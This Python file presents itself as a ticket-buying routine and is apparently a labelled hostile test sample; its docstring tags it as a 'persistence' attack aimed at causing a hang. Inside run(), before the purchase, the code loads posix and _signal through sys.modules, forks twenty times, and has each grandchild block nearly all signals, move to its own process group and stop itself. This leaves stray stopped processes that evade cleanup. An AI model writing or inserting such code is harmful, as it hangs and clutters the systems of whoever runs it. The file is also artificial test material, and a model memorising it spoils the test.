"""Gives its nursery children that it has not made, who stop, and hold each other's locks when they are killed.

family: persistence
aims-at: hang
honest-score: 4
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    posix, signal = sys.modules["posix"], sys.modules["_signal"]
    for _ in range(20):
        if not posix.fork():
            if not posix.fork():
                signal.pthread_sigmask(0, range(1, 64))
                posix.setpgid(0, 0)
                posix.kill(posix.getpid(), 19)
            posix._exit(0)
    return buy(name)
